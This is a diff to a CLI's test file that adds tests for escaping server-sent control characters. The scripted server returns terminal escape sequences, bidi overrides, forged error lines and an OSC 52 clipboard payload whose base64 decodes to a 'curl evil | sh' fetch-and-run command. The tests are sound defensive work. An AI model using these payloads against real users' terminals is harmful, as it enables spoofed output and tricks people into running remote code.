@@ -1,12 +1,22 @@
 /**
- * Records a well-behaved service would not send, from a scripted server: ids above 2^53 and an
- * attribute named `__proto__`. What the CLI prints, and what it sends back, must keep both intact.
+ * Answers a well-behaved service would not send, from a scripted server: ids above 2^53, an
+ * attribute named `__proto__`, control characters in error documents and in who a token
+ * belongs to. What the CLI prints, and what it sends back, must keep the data intact and the
+ * terminal clean.
  */
+import fs from 'node:fs';
+import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runSvc, tempDir } from '../helpers/run-svc.js';
 import { startTinyServer, type Received, type Responder } from '../helpers/tiny-server.js';
 
 const BIG = '9007199254740993'; // 2^53 + 1: JSON.parse and Number() make it …992
+const OSC52 = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
+const CLEAR = '\x1b[2J\x1b[H';
+const BIDI = '\u202eolleh\u202c\x9b31m';
+const EVIL_DETAIL = `too long${BIDI}\r\nerror: a line the server made up`;
+/** What a terminal would act on: ESC, BEL, CR and other C0 (newline aside), DEL, C1, bidi controls. */
+const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
 let server: Awaited<ReturnType<typeof startTinyServer>>;
 let base: string;
 
@@ -16,6 +26,10 @@ const record = `{"type":"prospect","id":${BIG},"attributes":{"firstName":"Eve","
 beforeAll(async () => {
   server = await startTinyServer((req: Received): ReturnType<Responder> => {
     const u = new URL(req.url, 'http://x');
+    if (req.method === 'GET' && u.pathname === '/api/v2') return { status: 200, body: JSON.stringify({ meta: { user: { id: 3, name: `Mallory${OSC52}`, email: 'm@evil.example' }, organization: { name: `Org${BIDI}` } } }) };
+    if (u.pathname === '/api/v2/prospects/666' || (req.method === 'POST' && u.pathname === '/api/v2/prospects')) {
+      return { status: 422, body: JSON.stringify({ errors: [{ id: 'validationError', title: `Bad${CLEAR}`, detail: EVIL_DETAIL, source: { pointer: '/data/attributes/title' } }] }) };
+    }
     if (req.method === 'GET' && u.pathname === '/api/v2/prospects') return { status: 200, body: `{"data":[${record}],"links":{},"meta":{"count":null}}` };
     if (req.method === 'GET' && u.pathname.startsWith('/api/v2/prospects/')) return { status: 200, body: `{"data":${record}}` };
     if (req.method === 'DELETE' && u.pathname.startsWith('/api/v2/prospects/')) return { status: 204 };
@@ -54,5 +68,39 @@ describe('an attribute named __proto__', () => {
     expect(t.code, t.stderr).toBe(0);
     expect(t.stdout).not.toContain('yes');
     expect(t.stdout).not.toContain('function');
+  });
+});
+
+describe('control characters from the server', () => {
+  it('API error lines show them escaped, one line per error; the -o json error line keeps the exact text', async () => {
+    const r = await runSvc(['prospects', 'get', '666'], { env: env() });
+    expect(r.code).toBe(1);
+    expect(r.stderr).not.toMatch(RAW_CONTROL);
+    expect(r.stderr).toContain('error: Bad\\e[2J\\e[H: too long\\u202eolleh\\u202c\\x9b31m\\r\\nerror: a line the server made up (field /data/attributes/title');
+    expect(r.stderr.match(/^error:/gm)).toHaveLength(1);
+    const j = await runSvc(['prospects', 'get', '666', '-o', 'json'], { env: env() });
+    expect(j.stderr).not.toMatch(RAW_CONTROL);
+    const doc = JSON.parse(j.stderr.trim().split('\n').at(-1)!) as { errors: { detail: string }[] };
+    expect(doc.errors[0]!.detail).toBe(EVIL_DETAIL);
+  });
+
+  it('auth status shows who the token belongs to escaped', async () => {
+    const r = await runSvc(['auth', 'status', '-o', 'table'], { env: env() });
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).not.toMatch(RAW_CONTROL);
+    expect(r.stdout).toMatch(/^Logged in as:\s+Mallory\\e\]52;c;Y3VybCBldmlsIHwgc2g=\\a <m@evil\.example> \(user 3\)$/m);
+    expect(r.stdout).toContain('Org\\u202eolleh');
+    const j = await runSvc(['auth', 'status', '-o', 'json'], { env: env() });
+    expect(JSON.parse(j.stdout).user.name).toBe(`Mallory${OSC52}`);
+  });
+
+  it('bulk failure lines show them escaped', async () => {
+    const dir = tempDir();
+    const file = path.join(dir, 'rows.ndjson');
+    fs.writeFileSync(file, '{"firstName":"A"}\n{"firstName":"B"}\n');
+    const r = await runSvc(['prospects', 'create', '--input', file], { env: env() });
+    expect(r.code, r.stderr).toBe(5);
+    expect(r.stderr).not.toMatch(RAW_CONTROL);
+    expect(r.stderr).toMatch(/^row 1: failed: .*Bad\\e\[2J.*too long\\u202eolleh/m);
   });
 });
